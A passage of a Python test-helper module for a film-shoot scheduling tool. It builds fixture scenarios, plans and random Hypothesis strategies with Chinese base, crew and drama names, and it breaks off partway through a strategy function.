"""Builders of test inputs, made directly from the model classes: the one place tests get them.

- dates: :func:`day` (day ``n`` of the small scenarios), :func:`dec` (12-``n``);
- parts: :func:`small_title`, :func:`small_crew`, :func:`numbered_sets`,
  :func:`numbered_actors`, :func:`outage`;
- scenarios: :func:`small_scenario` (any small case), :func:`tiny_scenario`,
  :func:`checker_scenario`, :func:`storage_scenario`, :func:`publish_scenario`,
  :func:`big_month`;
- plans: :func:`shoot_run`, :func:`shoot_plan`, :func:`storage_plan`,
  :func:`storage_two_title_plan`, :func:`publish_plan`;
- random scenarios: :func:`random_scenario` (seeded), the Hypothesis strategies
  :func:`random_scenarios` (solvable) and :func:`file_scenarios` (for file round trips);
- editor tables: :func:`scenario_frames`; of a plan, :func:`days_of` and :func:`priority_of`;
- sweeps: :func:`sweep_of`, :func:`write_sweep_file`, the sample sweep files in :data:`SWEEPS`.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
from hypothesis import strategies as st

from scheduler.domain.accounts import Account, Action, Role, SignedIn
from scheduler.domain.model import (
    UNAVAILABLE_KINDS,
    Actor,
    Base,
    Crew,
    FilmSet,
    Need,
    Pin,
    Scenario,
    Targets,
    Title,
    Travel,
    Unavailability,
    UnavailableKind,
)
from scheduler.domain.plan import Plan, Shoot
from scheduler.domain.scenes import Scene
from scheduler.domain.sweep import Sweep, Variant
from scheduler.io.tables import scenario_to_tables
from scheduler.services.accounts import create_account
from scheduler.storage import ScenarioStore
from solver.slate.greedy import greedy_plan

SAMPLES = Path(__file__).resolve().parents[1] / "sample_data"
"""The committed sample scenarios (tutorial, zhengzhou-month, zhengzhou-full, cluster-x10)."""

START = date(2026, 12, 1)
"""Day 0 of the small scenarios."""

CITIES = ("郑州", "开封")
"""The cities of the random scenarios."""


def day(n: int) -> date:
    """Date of day ``n`` of the horizon (day 0 is 12-01)."""
    return START + timedelta(days=n)


def dec(n: int) -> date:
    """12-``n``, a date in December 2026 by its day of the month (``dec(1)`` is ``day(0)``)."""
    return date(2026, 12, n)


def small_title(
    title_id: str,
    priority: int = 1,
    first: int = 0,
    last: int = 9,
    needs: Sequence[tuple[str, int]] = (("办公室", 1),),
    cast: Sequence[str] = (),
    genre: str = "都市",
) -> Title:
    """Title ``剧目{title_id}`` that may shoot on days ``first`` … ``last``.

    ``needs`` are (set type, days) pairs, in order: one 办公室 day by default.
    """
    return Title(
        title_id,
        f"剧目{title_id}",
        genre,
        priority,
        day(first),
        day(last),
        tuple(Need(t, n) for t, n in needs),
        tuple(cast),
    )


def small_crew(
    crew_id: str,
    genres: tuple[str, ...] = (),
    max_days_in_row: int | None = None,
    *,
    home_base_id: str = "B1",
    day_rate: int = 10000,
) -> Crew:
    """Crew ``{crew_id}导剧组`` at ``home_base_id``: any genre and no limit by default."""
    return Crew(crew_id, f"{crew_id}导剧组", home_base_id, day_rate, genres, max_days_in_row)


def numbered_sets(
    set_types: Sequence[str], *, base_id: str = "B1", day_rate: int = 1000, width: int = 1
) -> tuple[FilmSet, ...]:
    """One set of each of ``set_types`` at ``base_id``: S1, S2 … (``width=2``: S01, S02 …)."""
    return tuple(
        FilmSet(f"S{n:0{width}d}", base_id, set_type, day_rate)
        for n, set_type in enumerate(set_types, 1)
    )


def numbered_actors(count: int, *, day_rate: int = 1000, width: int = 1) -> tuple[Actor, ...]:
    """``count`` actors 演员1, 演员2 …: A1, A2 … (``width=2``: A01, A02 …)."""
    return tuple(Actor(f"A{n:0{width}d}", f"演员{n}", day_rate) for n in range(1, count + 1))


def outage(
    kind: UnavailableKind, resource_id: str, first: int, last: int | None = None, note: str = ""
) -> Unavailability:
    """``resource_id`` (a ``kind``) unavailable on days ``first`` … ``last`` (``first`` alone)."""
    return Unavailability(
        kind, resource_id, day(first), day(first if last is None else last), note
    )


def small_scenario(
    titles: Sequence[Title],
    *,
    name: str = "测试",
    days: int = 3,
    bases: Sequence[Base] = (Base("B1", "金水基地", "郑州"),),
    sets: Sequence[FilmSet] = (FilmSet("S1", "B1", "办公室", 1000),),
    crews: Sequence[Crew] = (Crew("C1", "张导剧组", "B1", 10000),),
    actors: Sequence[Actor] = (),
    unavailable: Sequence[Unavailability] = (),
    travel: Sequence[Travel] = (),
    pins: Sequence[Pin] = (),
    targets: Targets | None = None,
) -> Scenario:
    """``titles`` over ``days`` days from 12-01.

    By default one base B1 in 郑州, one 办公室 set S1, one crew C1, no actors and
    the default targets.
    """
    return Scenario(
        name=name,
        start_date=START,
        days=days,
        bases=tuple(bases),
        sets=tuple(sets),
        crews=tuple(crews),
        actors=tuple(actors),
        titles=tuple(titles),
        unavailable=tuple(unavailable),
        travel=tuple(travel),
        pins=tuple(pins),
        targets=Targets() if targets is None else targets,
    )


def tiny_scenario() -> Scenario:
    """A valid 14-day scenario: 2 bases (2 cities), 4 sets of 3 types, 2 crews, 3 actors, 4 titles.

    Written as CSV, the rows land on these lines (header = line 1):

    - bases: B01 郑州 (line 2), B02 开封 (3)
    - sets: S01 B01 办公室 (2), S02 B01 别墅 (3), S03 B02 古装宫殿 (4), S04 B02 办公室 (5)
    - crews: C01 都市;甜宠, at most 6 days in a row (2), C02 any genre (3)
    - actors: A01 (2), A02 (3), A03 (4)
    - titles (extra column ``platform``): T01 (2), T02 (3), T03 (4), T04 (5)
    - title_needs: T01 办公室 (2), T01 别墅 (3), T02 古装宫殿 (4), T03 办公室 (5),
      T03 别墅 (6), T04 办公室 (7)
    - unavailable: actor A01 on 12-08 … 12-09 (2); travel: 郑州 → 开封 (2); pins: T02 (2)
    """
    return Scenario(
        name="郑州开封基地群 测试",
        start_date=date(2026, 12, 1),
        days=14,
        bases=(
            Base("B01", "郑州影视基地", "郑州", max_crews=2),
            Base("B02", "开封清明上河园基地", "开封"),
        ),
        sets=(
            FilmSet("S01", "B01", "办公室", 3000),
            FilmSet("S02", "B01", "别墅", 5000),
            FilmSet("S03", "B02", "古装宫殿", 8000),
            FilmSet("S04", "B02", "办公室", 2500),
        ),
        crews=(
            Crew("C01", "王导剧组", "B01", 12000, genres=("都市", "甜宠"), max_days_in_row=6),
            Crew("C02", "李导剧组", "B02", 10000),
        ),
        actors=(
            Actor("A01", "张雨桐", 3000),
            Actor("A02", "刘子轩", 2500),
            Actor("A03", "陈思琪", 2000),
        ),
        titles=(
            Title(
                "T01",
                "总裁的契约新娘",
                "都市",
                3,
                date(2026, 12, 1),
                date(2026, 12, 10),
                needs=(Need("办公室", 2), Need("别墅", 1)),
                cast=("A01", "A02"),
                extra={"platform": "抖音"},
            ),
            Title(
                "T02",
                "穿越之凤鸣九天",
                "古装",
                2,
                date(2026, 12, 1),
                date(2026, 12, 12),
                needs=(Need("古装宫殿", 3),),
                cast=("A03",),
                extra={"platform": "快手"},
            ),
            Title(
                "T03",
                "重生之我是大老板",
                "都市",
                1,
                date(2026, 12, 3),
                date(2026, 12, 14),
                needs=(Need("办公室", 1), Need("别墅", 2)),
                cast=("A02",),
                extra={"platform": "抖音"},
            ),
            Title(
                "T04",
                "闪婚后傅少宠上天",
                "甜宠",
                2,
                date(2026, 12, 5),
                date(2026, 12, 14),
                needs=(Need("办公室", 2),),
                extra={"platform": ""},
            ),
        ),
        unavailable=(
            Unavailability("actor", "A01", date(2026, 12, 8), date(2026, 12, 9), note="请假"),
        ),
        travel=(Travel("郑州", "开封", 2),),
        pins=(Pin("T02", start_date=date(2026, 12, 2), base_id="B02"),),
        targets=Targets(parallel_shoots_per_day=2, titles_per_month=8),
    )


def checker_scenario(**changes: Any) -> Scenario:
    """The checker's scenario: 3 titles, 2 bases in 2 cities, 5 sets, 3 crews, 3 actors, 10 days.

    - B01 郑州影视基地 (郑州): S01 办公室, S02 医院, S03 办公室
    - B02 横店影视城 (东阳): S04 古装宫殿, S05 办公室
    - C01 张导组 any genre; C02 李导组 古装 only; C03 王导组 都市;甜宠
    - T01 都市, 办公室 ×2 + 医院 ×1, cast A01; T02 古装, 古装宫殿 ×2, cast A02;
      T03 甜宠, 办公室 ×2, cast A03; all may shoot 12-01 … 12-10.

    ``changes`` replace fields of the scenario.
    """
    base = Scenario(
        name="郑州横店 检查器测试",
        start_date=dec(1),
        days=10,
        bases=(Base("B01", "郑州影视基地", "郑州"), Base("B02", "横店影视城", "东阳")),
        sets=(
            FilmSet("S01", "B01", "办公室", 800),
            FilmSet("S02", "B01", "医院", 1200),
            FilmSet("S03", "B01", "办公室", 800),
            FilmSet("S04", "B02", "古装宫殿", 3000),
            FilmSet("S05", "B02", "办公室", 900),
        ),
        crews=(
            Crew("C01", "张导组", "B01", 6000),
            Crew("C02", "李导组", "B02", 5000, genres=("古装",)),
            Crew("C03", "王导组", "B01", 5500, genres=("都市", "甜宠")),
        ),
        actors=(
            Actor("A01", "刘思雨", 3000),
            Actor("A02", "陈浩然", 2500),
            Actor("A03", "赵欣怡", 2000),
        ),
        titles=(
            Title("T01", "霸道总裁的契约新娘", "都市", 3, dec(1), dec(10),
                  (Need("办公室", 2), Need("医院", 1)), cast=("A01",)),
            Title("T02", "深宫凤华录", "古装", 2, dec(1), dec(10),
                  (Need("古装宫殿", 2),), cast=("A02",)),
            Title("T03", "闪婚后大佬宠我上天", "甜宠", 1, dec(1), dec(10),
                  (Need("办公室", 2),), cast=("A03",)),
        ),
        targets=Targets(parallel_shoots_per_day=3, titles_per_month=9),
    )  # fmt: skip
    return replace(base, **changes)


def storage_scenario(
    name: str = "郑州基地群 12月 测试", *, optional_sheets: bool = True
) -> Scenario:
    """The storage tests' scenario: 2 bases in 2 cities, 4 sets, 2 crews, 3 actors, 3 titles.

    Ids are deliberately out of sorted order (B2 before B1 …) so that a store
    returning rows by id instead of by file position is caught. With
    ``optional_sheets`` it also has unavailability, travel, pins (one with
    every field ``None``), extra columns and unknown settings; without, all of
    those are empty.
    """
    extra = optional_sheets
    return Scenario(
        name=name,
        start_date=date(2026, 12, 1),
        days=31,
        targets=Targets(parallel_shoots_per_day=20, titles_per_month=400) if extra else Targets(),
        settings_extra={
            "owner": "王统筹",
            "published_until": date(2026, 12, 7),
            "call_time": time(7, 30),
            "notes": {"weekly": [1, 2.5, "周一"], "flag": True},
        }
        if extra
        else {},
        bases=(
            Base("B2", "开封清明上河园基地", "开封", extra={"联系人": "刘经理"} if extra else {}),
            Base("B1", "郑州影视城", "郑州", max_crews=3),
        ),
        sets=(
            FilmSet("S3", "B1", "办公室", 3000),
            FilmSet("S1", "B1", "别墅", 5200, extra={"面积": "800㎡"} if extra else {}),
            FilmSet("S2", "B2", "古装宫殿", 8800),
            FilmSet("S4", "B2", "医院", 4100),
        ),
        crews=(
            Crew("C2", "陈导剧组", "B2", 9000, genres=("古装", "甜宠"), max_days_in_row=6),
            Crew("C1", "张导剧组", "B1", 8000),
        ),
        actors=(
            Actor("A3", "林小雨", 6000),
            Actor("A1", "赵子轩", 12000, extra={"经纪公司": "星河"} if extra else {}),
            Actor("A2", "苏晴", 7000),
        ),
        titles=(
            Title(
                "T3",
                "霸道总裁的契约新娘",
                "都市",
                3,
                date(2026, 12, 1),
                date(2026, 12, 20),
                needs=(
                    Need("办公室", 2),
                    Need("别墅", 3, extra={"备注": "夜戏"} if extra else {}),
                ),
                cast=("A1", "A3"),
                extra={"平台": "抖音"} if extra else {},
            ),
            Title(
                "T1",
                "凤临天下",
                "古装",
                5,
                date(2026, 12, 3),
                date(2026, 12, 31),
                needs=(Need("古装宫殿", 4),),
                cast=("A2",),
            ),
            Title(
                "T2",
                "急诊室的春天",
                "都市",
                1,
                date(2026, 12, 10),
                date(2026, 12, 28),
                needs=(Need("医院", 2), Need("办公室", 1)),
            ),
        ),
        unavailable=(
            Unavailability("actor", "A1", date(2026, 12, 8), date(2026, 12, 9), "综艺录制"),
            Unavailability("base", "B2", date(2026, 12, 24), date(2026, 12, 25)),
        )
        if extra
        else (),
        travel=(Travel("郑州", "开封", 1, extra={"交通": "高铁"}),) if extra else (),
        pins=(
            Pin("T1", start_date=date(2026, 12, 5), base_id="B2", crew_id="C2"),
            Pin("T3"),
            Pin("T2", crew_id="C1"),
        )
        if extra
        else (),
    )


def big_month(crews: int = 250) -> tuple[Scenario, Plan]:
    """About 4,600 titles and 7,000 shoots over 28 days of a 31-day horizon.

    Each crew owns one set and one actor at one base and shoots a chain of 1- and
    2-day titles back to back; crews and actors are away on the last 3 days, and
    every crew's first title is pinned.
    """
    start, horizon_end = dec(1), dec(31)
    bases = tuple(Base(f"B{b:02d}", f"基地{b}", f"城市{b % 5}", max_crews=30) for b in range(10))
    sets, crew_rows, actors, titles, shoots, away, pins = [], [], [], [], [], [], []
    for c in range(crews):
        base_id, set_id, crew_id, actor_id = (
            f"B{c % 10:02d}",
            f"S{c:03d}",
            f"C{c:03d}",
            f"A{c:03d}",
        )
        sets.append(FilmSet(set_id, base_id, "办公室", 800))
        crew_rows.append(Crew(crew_id, f"剧组{c}", base_id, 5000, max_days_in_row=28))
        actors.append(Actor(actor_id, f"演员{c}", 2000))
        away += [Unavailability("crew", crew_id, dec(29), horizon_end)]
        away += [Unavailability("actor", actor_id, dec(29), horizon_end)]
        pins.append(Pin(f"T{c:03d}-00", start_date=start, base_id=base_id, crew_id=crew_id))
        offset, n = 0, 0
        while offset < 28:
            length = 1 if offset == 27 else 1 + (n + c) % 2
            title_id = f"T{c:03d}-{n:02d}"
            needs = (Need("办公室", length),)
            titles.append(Title(title_id, "剧", "都市", 1, start, horizon_end, needs, (actor_id,)))
            for k in range(length):
                when = start + timedelta(days=offset + k)
                shoots.append(Shoot(title_id, when, base_id, set_id, crew_id))
            offset, n = offset + length, n + 1
    sc = Scenario(
        "大月份", start, 31, bases, tuple(sets), tuple(crew_rows), tuple(actors), tuple(titles),
        unavailable=tuple(away), pins=tuple(pins),
    )  # fmt: skip
    return sc, Plan(tuple(shoots), {})


def shoot_run(
    title_id: str, first_day: int, base_id: str, set_ids: Sequence[str], crew_id: str
) -> list[Shoot]:
    """Shoots of one title on consecutive days from 12-``first_day``, one set a day."""
    return [
        Shoot(title_id, dec(first_day + i), base_id, set_id, crew_id)
        for i, set_id in enumerate(set_ids)
    ]


def shoot_plan(*runs: list[Shoot], unscheduled: dict[str, str] | None = None) -> Plan:
    """A plan of the shoots of ``runs``, in that order, and ``unscheduled``."""
    return Plan(tuple(s for r in runs for s in r), unscheduled or {})


def storage_plan() -> Plan:
    """A plan of :func:`storage_scenario`: T1 on 12-05 … 12-08 at B2 with C2.

    T3 and T2 are left out with a reason.
    """
    shoots = tuple(
        Shoot("T1", dec(n), "B2", "S2", "C2") for n in (8, 5, 6, 7)
    )  # not in date order: the store keeps the plan's own order
    return Plan(
        shoots=shoots,
        unscheduled={
            "T3": "12-08 至 12-09 主演赵子轩不可用 (lead actor A1 unavailable 12-08 … 12-09)",
            "T2": "没有空闲的医院场景 (no 医院 set free between 12-10 and 12-28)",
        },
    )


def storage_two_title_plan() -> Plan:
    """A plan of :func:`storage_scenario` with two titles, for publications.

    T1 on 12-05 … 12-08 at B2 (S2) with C2; T3 on 12-10 … 12-14 at B1 (S3 ×2, S1 ×3)
    with C1; T2 left out.
    """
    return shoot_plan(
        shoot_run("T1", 5, "B2", ["S2"] * 4, "C2"),
        shoot_run("T3", 10, "B1", ["S3", "S3", "S1", "S1", "S1"], "C1"),
        unscheduled={"T2": "没有空闲的医院场景"},
    )


def publish_scenario() -> Scenario:
    """Two one-day titles competing for one set and one crew over two days (12-01, 12-02).

    B1 with one 办公室 set S1 and one crew C1; T1 (priority 1, cast 林婉儿 A1) and T2
    (priority 5, cast 陈子轩 A2) need one 办公室 day each, on either day.
    """
    return small_scenario(
        [small_title("T1", 1, 0, 1, cast=["A1"]), small_title("T2", 5, 0, 1, cast=["A2"])],
        name="发布测试",
        days=2,
        actors=(Actor("A1", "林婉儿", 1000), Actor("A2", "陈子轩", 1000)),
    )


def publish_plan() -> Plan:
    """A plan of :func:`publish_scenario`: T1 on 12-01, T2 on 12-02, both on S1 with C1."""
    return shoot_plan(
        shoot_run("T1", 1, "B1", ["S1"], "C1"), shoot_run("T2", 2, "B1", ["S1"], "C1")
    )


def random_scenario(
    seed: int,
    titles: tuple[int, int] = (4, 7),
    *,
    set_types: tuple[str, ...] = ("办公室", "别墅", "医院"),
    genres: tuple[str, ...] = ("都市", "甜宠", "古装"),
) -> Scenario:
    """A random valid scenario: 7–12 days, 2–3 bases in 1–2 cities, 3–5 sets, 1–3 crews,
    2–4 actors and ``titles`` (fewest, most) titles.

    Windows, casts, outages, travel days, crew genres and days-in-a-row limits are
    random; sometimes one title is pinned (start, and maybe base and crew) as the
    greedy plan shoots it, so some plan keeps the pin. A title needs at most two set
    types of 1–2 days each: at most 6 orders of set types, all of which CP-SAT
    enumerates (see ``test_set_types_interleave`` for more).
    """
    rng = random.Random(seed)
    days = rng.randint(7, 12)
    cities = CITIES[: rng.randint(1, 2)]
    bases = []
    for i in range(1, rng.randint(2, 3) + 1):
        city = rng.choice(cities)
        bases.append(Base(f"B{i}", f"{city}{i}号基地", city, max_crews=rng.choice((None, 1, 2))))
    sets = tuple(
        FilmSet(
            f"S{i}", rng.choice(bases).base_id, rng.choice(set_types), rng.randint(5, 50) * 100
        )
        for i in range(1, rng.randint(3, 5) + 1)
    )
    crews = tuple(
        Crew(
            f"C{i}",
            f"剧组{i}",
            rng.choice(bases).base_id,
            rng.randint(50, 200) * 100,
            genres=tuple(rng.sample(genres, rng.randint(1, 2))) if rng.random() < 0.5 else (),
            max_days_in_row=rng.choice((None, 2, 3, 4)),
        )
        for i in range(1, rng.randint(1, 3) + 1)
    )
    actors = tuple(Actor(f"A{i}", f"演员{i}", 1000) for i in range(1, rng.randint(2, 4) + 1))
    actor_ids = [a.actor_id for a in actors]
    have_types = sorted({s.set_type for s in sets})
    title_list = []
    for i in range(1, rng.randint(*titles) + 1):
        first = rng.randint(0, days - 2)
        last = rng.randint(first, min(days - 1, first + 6))
        types = rng.sample(have_types, min(len(have_types), rng.randint(1, 2)))
        title_list.append(
            Title(
                f"T{i}",
                f"剧目{i}",
                rng.choice(genres),
                rng.randint(1, 5),
                day(first),
                day(last),
                tuple(Need(t, rng.randint(1, 2)) for t in types),
                cast=tuple(rng.sample(actor_ids, rng.randint(0, 2))),
            )
        )
    ids_of = {
        "set": [s.set_id for s in sets],
        "crew": [c.crew_id for c in crews],
        "actor": actor_ids,
        "base": [b.base_id for b in bases],
    }
    unavailable = []
    for _ in range(rng.randint(0, 3)):
        kind = rng.choice(UNAVAILABLE_KINDS)
        first = rng.randint(0, days - 1)
        last = min(days - 1, first + rng.randint(0, 2))
        unavailable.append(Unavailability(kind, rng.choice(ids_of[kind]), day(first), day(last)))
    travel: tuple[Travel, ...] = ()
    if len(cities) == 2 and rng.random() < 0.7:
        travel = (Travel(CITIES[0], CITIES[1], rng.randint(0, 3)),)
    made = small_scenario(
        title_list,
        days=days,
        bases=bases,
        sets=sets,
        crews=crews,
        actors=actors,
        unavailable=unavailable,
        travel=travel,
    )
    if rng.random() < 0.4:
        greedy = greedy_plan(made)
        scheduled = sorted(greedy.scheduled_title_ids)
        if scheduled:
            shoot = greedy.shoots_of(rng.choice(scheduled))[0]
            base_id = shoot.base_id if rng.random() < 0.5 else None
            crew_id = shoot.crew_id if rng.random() < 0.5 else None
            made = replace(made, pins=(Pin(shoot.title_id, shoot.date, base_id, crew_id),))
    return made


def pooled_crews_scenario(seed: int) -> Scenario:
    """A random one-city scenario whose crews no rule tells apart but by day rate.

    6–9 days, 2 bases, 3–5 sets, 2–4 crews of one genre list (blank or 都市;甜宠) with
    the same outages, no days-in-a-row limit, and 5–9 titles of 1–3 days, some
    sharing an actor: many titles want a crew on the same days, so the crews'
    count binds and a pool of them is what decides.
    """
    rng = random.Random(seed)
    days = rng.randint(6, 9)
    bases = [Base("B1", "金水基地", "郑州"), Base("B2", "二七基地", "郑州")]
    sets = tuple(
        FilmSet(f"S{i}", rng.choice(bases).base_id, rng.choice(("办公室", "医院")), 1000 + 100 * i)
        for i in range(1, rng.randint(3, 5) + 1)
    )
    genres = rng.choice(((), ("都市", "甜宠")))
    crews = tuple(
        Crew(f"C{i}", f"剧组{i}", "B1", rng.randint(50, 200) * 100, genres=genres)
        for i in range(1, rng.randint(2, 4) + 1)
    )
    closed = rng.randint(0, days - 1)
    unavailable = [Unavailability("crew", c.crew_id, day(closed), day(closed)) for c in crews]
    actors = numbered_actors(3)
    have_types = sorted({s.set_type for s in sets})
    titles = []
    for i in range(1, rng.randint(5, 9) + 1):
        first = rng.randint(0, days - 2)
        last = rng.randint(first + 1, days - 1)
        titles.append(
            small_title(
                f"T{i}",
                priority=rng.randint(1, 5),
                first=first,
                last=last,
                needs=[(rng.choice(have_types), rng.randint(1, 3))],
                cast=rng.sample([a.actor_id for a in actors], rng.randint(0, 1)),
                genre=rng.choice(("都市", "甜宠")),
            )
        )
    return small_scenario(
        titles,
        days=days,
        bases=bases,
        sets=sets,
        crews=crews,
        actors=actors,
        unavailable=unavailable if rng.random() < 0.5 else (),
    )


@st.composite
def random_scenarios(
    draw: st.DrawFn,
    set_types: tuple[str, ...] = ("办公室", "别墅", "医院", "街道"),
    genres: tuple[str, ...] = ("都市", "甜宠", "古装", "悬疑"),
) -> Scenario:
    """A random valid scenario with a plan: 2–3 bases in 1–2 cities, 2–5 sets, 1–3 crews,
    2–4 actors, 2–6 titles over 7–14 days from 2026-12-01.

    Windows, needs, casts, outages, travel days, crew genres and days-in-a-row limits
    are random; sometimes one title is pinned (some of start, base and crew) as the
    greedy plan shoots it, so that at least one plan keeps every pin.
    """
    days = draw(st.integers(7, 14))
    cities = CITIES[: draw(st.integers(1, 2))]
    bases = []
    for i in range(1, draw(st.integers(2, 3)) + 1):
        city = draw(st.sampled_from(cities))
        max_crews = draw(st.one_of(st.none(), st.integers(1, 2)))
        bases.append(Base(f"B{i}", f"{city}{i}号基地", city, max_crews=max_crews))
    sets = tuple(
        FilmSet(
            f"S{i}",
            draw(st.sampled_from(bases)).base_id,
            draw(st.sampled_from(set_types)),
            draw(st.integers(5, 50)) * 100,
        )
        for i in range(1, draw(st.integers(2, 5)) + 1)
    )
    crews = tuple(
        Crew(
            f"C{i}",
            f"剧组{i}",
            draw(st.sampled_from(bases)).base_id,
            draw(st.integers(50, 200)) * 100,
            genres=tuple(
                draw(
                    st.one_of(
                        st.just([]),
                        st.lists(st.sampled_from(genres), min_size=1, max_size=3, unique=True),
                    )
                )
            ),
            max_days_in_row=draw(st.one_of(st.none(), st.integers(2, 5))),
        )
        for i in range(1, draw(st.integers(1, 3)) + 1)
    )
    actors = tuple(
        Actor(f"A{i}", f"演员{i}", draw(st.integers(10, 50)) * 100)
        for i in range(1, draw(st.integers(2, 4)) + 1)
    )
    actor_ids = [a.actor_id for a in actors]
    have_types = sorted({s.set_type for s in sets})  # a need must be a type some base has

    titles = []
    for i in range(1, draw(st.integers(2, 6)) + 1):
        first = draw(st.integers(0, days - 1))
        last = draw(st.integers(first, days - 1))
        types = draw(st.lists(st.sampled_from(have_types), min_size=1, max_size=2, unique=True))
        titles.append(
            Title(
                f"T{i}",
                f"剧目{i}",
                draw(st.sampled_from(genres)),
                draw(st.integers(1, 5)),
                day(first),
                day(last),
                tuple(Need(t, draw(st.integers(1, 3))) for t in types),
                cast=tuple(draw(st.lists(st.sampled_from(actor_ids), max_size=2, unique=True))),
            )
        )

    ids_of: dict[str, list[str]] = {
        "set": [s.set_id for s in sets],
        "crew": [c.crew_id for c in crews],
        "actor": actor_ids,
        "base": [b.base_id for b in bases],
    }
    unavailable = []
    for _ in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from(UNAVAILABLE_KINDS))
        first = draw(st.integers(0, days - 1))
        last = draw(st.integers(first, min(days - 1, first + 3)))
        unavailable.append(
            Unavailability(kind, draw(st.sampled_from(ids_of[kind])), day(first), day(last))
        )
    travel: tuple[Travel, ...] = ()
    if len(cities) == 2 and draw(st.booleans()):
        travel = (Travel(cities[0], cities[1], draw(st.integers(0, 2))),)

    scenario = Scenario(
        name="随机小场景",
        start_date=START,
        days=days,
        bases=tuple(bases),
        sets=sets,
        crews=crews,
        actors=actors,
        titles=tuple(titles),
        unavailable=tuple(unavailable),
        travel=travel,
        targets=Targets(parallel_shoots_per_day=2, titles_per_month=10),
    )
    if draw(st.booleans()):
        # A pin copied from a plan that keeps every rule, so some plan keeps the pin.
        greedy = greedy_plan(scenario)
        scheduled = sorted(greedy.scheduled_title_ids)
        if scheduled:
            first_shoot = greedy.shoots_of(draw(st.sampled_from(scheduled)))[0]
            keep = draw(
                st.lists(
                    st.sampled_from(("start", "base", "crew")), min_size=1, max_size=3, unique=True
                )
            )
            pin = Pin(
                first_shoot.title_id,
                start_date=first_shoot.date if "start" in keep else None,
                base_id=first_shoot.base_id if "base" in keep else None,
                crew_id=first_shoot.crew_id if "crew" in keep else None,
            )
            scenario = replace(scenario, pins=(pin,))
    return scenario


# the parts of file_scenarios
_HANZI = (
    "张王李刘陈杨赵黄周吴郑州开封洛阳影视基地城宫殿别墅总裁新娘重生穿越凤鸣九天闪婚傅少宠甜大老板"
)
_FILE_SET_TYPES = ("办公室", "别墅", "医院", "古装宫殿", "街道", "学校")
_FILE_GENRES = ("都市", "甜宠", "古装", "悬疑", "战神")
_EXTRA_COLUMNS = ("备注", "联系人", "platform")
_names = st.text(alphabet=_HANZI + " ·", min_size=1, max_size=8).map(str.strip).filter(bool)
_notes = st.text(alphabet=_HANZI + " ", max_size=6).map(str.strip)
_day_rates = st.integers(0, 30_000)


def _ids(prefix: str, min_size: int, max_size: int) -> st.SearchStrategy[list[str]]:
    """Unique ids such as ``基地3`` or ``棚郑A``: a prefix and any short text, not only digits."""
    one = st.text(alphabet=_HANZI + "0123456789ABC-_", min_size=1, max_size=3).map(
        lambda text: prefix + text
    )
    return st.lists(one, min_size=min_size, max_size=max_size, unique=True)


@st.composite
def _extras(draw: st.DrawFn, count: int) -> list[dict[str, str]]:
    """Extra columns of one sheet: the same columns on every row, values may be blank."""
    columns = draw(st.lists(st.sampled_from(_EXTRA_COLUMNS), max_size=2, unique=True))
    return [{column: draw(_notes) for column in columns} for _ in range(count)]


@st.composite
def file_scenarios(draw: st.DrawFn) -> Scenario:
    """A small valid scenario for file round trips, with Chinese names and ids.

    1–3 bases, 1–6 sets, 1–3 crews, 0–4 actors and 1–5 titles over 1–60 days from
    any date of 2025 … 2027; some unknown columns, outages, travel rows and pins.
    """
    start = draw(st.dates(date(2025, 1, 1), date(2027, 12, 31)))
    days = draw(st.integers(1, 60))

    def some_date() -> date:
        return start + timedelta(days=draw(st.integers(-10, 70)))

    cities = draw(
        st.lists(
            st.sampled_from(("郑州", "开封", "洛阳", "横店")), min_size=1, max_size=3, unique=True
        )
    )
    base_ids = draw(_ids("基地", 1, 3))
    base_extra = draw(_extras(len(base_ids)))
    bases = tuple(
        Base(
            base_id,
            draw(_names),
            draw(st.sampled_from(cities)),
            draw(st.none() | st.integers(1, 5)),
            extra,
        )
        for base_id, extra in zip(base_ids, base_extra, strict=True)
    )

    set_ids = draw(_ids("棚", 1, 6))
    set_extra = draw(_extras(len(set_ids)))
    sets = tuple(
        FilmSet(
            set_id,
            draw(st.sampled_from(base_ids)),
            draw(st.sampled_from(_FILE_SET_TYPES)),
            draw(_day_rates),
            extra,
        )
        for set_id, extra in zip(set_ids, set_extra, strict=True)
    )
    present_types = sorted({film_set.set_type for film_set in sets})

    crew_ids = draw(_ids("组", 1, 3))
    crews = tuple(
        Crew(
            crew_id,
            draw(_names) + "剧组",
            draw(st.sampled_from(base_ids)),
            draw(_day_rates),
            genres=tuple(draw(st.lists(st.sampled_from(_FILE_GENRES), max_size=3, unique=True))),
            max_days_in_row=draw(st.none() | st.integers(1, 7)),
        )
        for crew_id in crew_ids
    )

    actor_ids = draw(_ids("演员", 0, 4))
    actors = tuple(Actor(actor_id, draw(_names), draw(_day_rates)) for actor_id in actor_ids)

    title_ids = draw(_ids("剧", 1, 5))
    title_extra = draw(_extras(len(title_ids)))
    need_columns = draw(st.lists(st.sampled_from(_EXTRA_COLUMNS), max_size=1, unique=True))
    titles = []
    for title_id, extra in zip(title_ids, title_extra, strict=True):
        earliest = some_date()
        types = draw(st.lists(st.sampled_from(present_types), min_size=1, unique=True))
        cast = draw(st.lists(st.sampled_from(actor_ids), unique=True)) if actor_ids else []
        needs = tuple(
            Need(
                set_type,
                draw(st.integers(1, 5)),
                {column: draw(_notes) for column in need_columns},
            )
            for set_type in types
        )
        titles.append(
            Title(
                title_id,
                draw(_names),
                draw(st.sampled_from(_FILE_GENRES)),
                draw(st.integers(1, 9)),
                earliest,
                earliest + timedelta(days=draw(st.integers(0, 20))),
                needs,
                cast=tuple(cast),
                extra=extra,
            )
        )

    ids_by_kind = {"set": set_ids, "crew": crew_ids, "actor": actor_ids, "base": base_ids}
    outages = []
    for _ in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from([k for k in UNAVAILABLE_KINDS if ids_by_kind[k]]))
        first = some_date()
        outages.append(
            Unavailability(
                kind,
                draw(st.sampled_from(ids_by_kind[kind])),
                first,
                first + timedelta(days=draw(st.integers(0, 5))),
                draw(_notes),
            )
        )

    pairs = draw(
        st.lists(
            st.tuples(st.sampled_from(cities), st.sampled_from(cities)), max_size=3, unique=True
        )
    )
    travel = tuple(Travel(a, b, draw(st.integers(0, 3))) for a, b in pairs)

    def pin_start(title: Title) -> date | None:
        """No start, or one that leaves room for the shoot in its window and the horizon."""
        first = max(title.earliest_start, start)
        latest = min(title.due_date, start + timedelta(days=days - 1))
        latest -= timedelta(days=title.shoot_days - 1)
        if latest < first:
            return None
        offsets = st.integers(0, (latest - first).days)
